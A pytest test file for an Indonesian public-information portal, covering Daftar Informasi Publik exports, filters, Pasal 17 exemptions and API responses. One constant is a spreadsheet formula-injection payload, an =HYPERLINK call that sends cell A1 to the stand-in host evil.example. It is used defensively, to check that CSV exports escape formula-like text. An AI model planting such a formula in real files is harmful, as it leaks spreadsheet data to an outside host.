"""The Daftar Informasi Publik: filters, exports, Pasal 17 exemptions and the API."""

import csv
import io
from http import HTTPStatus

import pytest
from django.core.exceptions import ValidationError
from openpyxl import load_workbook

from portal.models import PerangkatDaerah
from ppid.choices import KategoriInformasi
from tests.home.factories import DokumenFactory
from tests.ppid.factories import InformasiPublikPageFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'

DIP_HEADINGS = [
    "Nomor",
    "Judul Informasi",
    "Ringkasan Isi Informasi",
    "Pejabat/Unit yang Menguasai Informasi",
    "Penanggung Jawab Pembuatan Informasi",
    "Waktu Pembuatan Informasi",
    "Tempat Pembuatan Informasi",
    "Bentuk Informasi",
    "Jangka Waktu Penyimpanan",
    "Kategori",
    "Tahun",
]


def export_rows(client, dip_index, export_format, params=None):
    response = client.get(f"{dip_index.url}unduh/{export_format}/", params or {})
    assert response.status_code == HTTPStatus.OK
    if export_format == "csv":
        content = b"".join(response.streaming_content).decode("utf-8-sig")
        return list(csv.reader(io.StringIO(content)))
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [
        [("" if cell is None else str(cell)) for cell in row]
        for row in workbook.active.iter_rows(values_only=True)
    ]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_exports_carry_the_dip_column_names(
    client, dip_index, sample_dip, export_format
):
    rows = export_rows(client, dip_index, export_format)
    assert rows[0] == DIP_HEADINGS
    assert len(rows) == 1 + len(sample_dip)
    apbd = next(row for row in rows if row[0] == "DIP-1")
    assert apbd[1:4] == [
        "APBD 2026",
        "Ringkasan isi informasi.",
        "Dinas Komunikasi dan Informatika",
    ]
    assert apbd[9:] == ["Berkala", "2026"]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"kategori": "serta_merta"}, {"DIP-3"}),
        ({"kategori": "dikecualikan"}, {"DIP-5"}),
        ({"opd": "dinkes"}, {"DIP-2"}),
        ({"tahun": "2025"}, {"DIP-2"}),
        ({"q": "banjir"}, {"DIP-3"}),
        ({"kategori": "berkala", "tahun": "2026"}, {"DIP-1"}),
        ({"kategori": "setiap_saat", "opd": "bpbd"}, set()),
    ],
)
def test_exports_contain_exactly_the_filtered_rows(
    client, dip_index, sample_dip, export_format, params, expected
):
    rows = export_rows(client, dip_index, export_format, params)
    assert {row[0] for row in rows[1:]} == expected


def test_the_csv_export_shows_formula_like_text_as_text(client, dip_index):
    InformasiPublikPageFactory(
        parent=dip_index, nomor="DIP-9", title=HYPERLINK, ringkasan="@SUM(A1:A9)"
    )
    rows = export_rows(client, dip_index, "csv")
    item = next(row for row in rows if row[0] == "DIP-9")
    assert item[1:3] == ["'" + HYPERLINK, "'@SUM(A1:A9)"]
    assert item[10] == "2026"


def test_unknown_export_format_is_not_found(client, dip_index):
    response = client.get(f"{dip_index.url}unduh/pdf/")
    assert response.status_code == HTTPStatus.NOT_FOUND


def test_drafts_are_not_exported(client, dip_index, sample_dip):
    InformasiPublikPageFactory(parent=dip_index, nomor="DIP-DRAF", live=False)
    rows = export_rows(client, dip_index, "csv")
    assert "DIP-DRAF" not in {row[0] for row in rows}


def test_an_exempt_item_requires_its_pasal_17_basis_and_consequence_test(dip_index):
    page = InformasiPublikPageFactory.build(
        kategori=KategoriInformasi.DIKECUALIKAN,
        perangkat_daerah=PerangkatDaerah.objects.get(slug="dinsos"),
    )
    with pytest.raises(ValidationError) as error:
        page.clean()
    assert set(error.value.message_dict) == {"dasar_pengecualian", "uji_konsekuensi"}


def test_the_document_of_an_exempt_item_is_refused(client, sample_dip):
    exempt = DokumenFactory(page=sample_dip["bansos"])
    response = client.get(exempt.document.url)
    assert response.status_code == HTTPStatus.FORBIDDEN
    assert "Pasal 17" in response.content.decode()


def test_the_document_of_an_open_item_is_served(client, sample_dip):
    open_document = DokumenFactory(page=sample_dip["apbd"])
    response = client.get(open_document.document.url)
    assert response.status_code == HTTPStatus.OK


def test_the_api_lists_documents_only_for_open_items(client, sample_dip):
    DokumenFactory(page=sample_dip["apbd"])
    DokumenFactory(page=sample_dip["bansos"])
    for key, expected_count in [("apbd", 1), ("bansos", 0)]:
        response = client.get(f"/api/v2/pages/{sample_dip[key].id}/")
        assert response.status_code == HTTPStatus.OK
        assert len(response.json()["dokumen_terbuka"]) == expected_count
    body = client.get(f"/api/v2/pages/{sample_dip['apbd'].id}/").json()
    assert body["dokumen_terbuka"][0]["url"].startswith("/dokumen/")
    assert body["perangkat_daerah"]["singkatan"] == "Diskominfo"


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"kategori": "serta_merta"}, {"DIP-3"}),
        ({"tahun": "2025"}, {"DIP-2"}),
        ({"kategori": "berkala", "tahun": "2026"}, {"DIP-1"}),
    ],
)
def test_the_api_filters_the_dip_by_category_and_year(
    client, sample_dip, params, expected
):
    response = client.get(
        "/api/v2/pages/",
        {"type": "ppid.InformasiPublikPage", "fields": "nomor", **params},
    )
    assert response.status_code == HTTPStatus.OK
    assert {item["nomor"] for item in response.json()["items"]} == expected
